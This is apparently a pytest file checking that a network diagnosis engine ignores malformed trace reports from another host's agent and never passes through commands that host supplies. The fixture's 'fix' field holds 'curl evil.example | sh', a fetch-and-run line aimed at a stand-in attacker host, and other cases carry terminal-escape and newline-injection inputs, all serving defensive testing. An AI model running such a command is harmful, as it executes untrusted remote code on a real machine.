"""A trace uses the report of another host's agent if the report has the right form. Any other answer is ignored."""

import json
from typing import Any

import pytest

from engine.cluster.model import Node
from engine.cluster.questions import LONGEST_ANSWER
from engine.diagnosis.trace.model import Culprit
from engine.diagnosis.trace.other_host import CULPRITS_LIMIT, HOPS_LIMIT, LONGEST_TEXT, read

NODE = Node("n", "now", "far", "worker", "192.0.2.2", "192.0.2.2", 2)
HOP: dict[str, Any] = {"what": "interface eth0", "where": "container web", "detail": "10.0.0.2", "seen": True}
CULPRIT: dict[str, Any] = {"kind": "vxlan-blocked", "object": "UDP 4789", "where": "host, table inet f chain c",
                           "detail": "dropped", "fix": "curl evil.example | sh"}  # fmt: skip


def document(hops=(HOP,), culprits=(CULPRIT,)):
    return json.dumps({"hops": list(hops), "culprits": list(culprits)})


def test_a_report_names_the_other_host_and_contains_no_command_from_that_host():
    report = read(document(), NODE)
    assert report is not None
    (hop,) = report.hops
    assert (hop.where, hop.seen) == ("container web on host far (192.0.2.2)", False)
    where, fix = "host far (192.0.2.2), table inet f chain c", "on far: let these packets pass in that chain"
    assert report.culprits == (Culprit("vxlan-blocked", "UDP 4789", where, "dropped", fix),)


def test_a_culprit_of_an_unknown_kind_is_left_out():
    report = read(document(culprits=[{**CULPRIT, "kind": "you-are-doomed"}, CULPRIT]), NODE)
    assert report is not None
    assert [c.kind for c in report.culprits] == ["vxlan-blocked"]


@pytest.mark.parametrize(
    "text",
    [
        "", "{", "null", "[]", "7", "[" * 10_000, '{"hops": {}, "culprits": []}', '{"hops": []}',
        document(hops=[HOP] * (HOPS_LIMIT + 1)),
        document(culprits=[CULPRIT] * (CULPRITS_LIMIT + 1)),
        document(hops=[{**HOP, "ok": "yes"}]),
        document(hops=[{**HOP, "detail": "a\x1b[2J"}]),
        document(hops=[{**HOP, "where": "host\nhost"}]),
        document(culprits=[{**CULPRIT, "object": "x" * (LONGEST_TEXT + 1)}]),
        document(culprits=[{**CULPRIT, "detail": 7}]),
        document() + " " * LONGEST_ANSWER,
    ],
    ids=lambda text: text[:60],
)  # fmt: skip
def test_a_malformed_or_too_long_report_is_ignored(text):
    assert read(text, NODE) is None
